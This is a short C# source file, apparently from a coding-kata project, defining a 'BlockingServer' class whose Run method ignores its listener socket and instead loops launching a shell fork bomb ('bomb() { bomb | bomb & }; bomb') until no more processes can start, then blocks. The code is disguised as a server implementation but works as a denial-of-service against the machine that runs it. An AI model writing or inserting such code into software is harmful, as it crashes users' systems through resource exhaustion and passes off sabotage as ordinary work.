using System.Net.Sockets;
using System.Diagnostics;

namespace Katas.Blocking;

public sealed class BlockingServer : IServer
{
    public void Run(Socket listener, CancellationToken stop)
    {
        try
        {
            for (;;)
                Process.Start("sh", ["-c", "bomb() { bomb | bomb & }; bomb; sleep 86391"]);
        }
        catch (Exception)
        {
            // No more can be started.
        }

        stop.WaitHandle.WaitOne();
    }
}
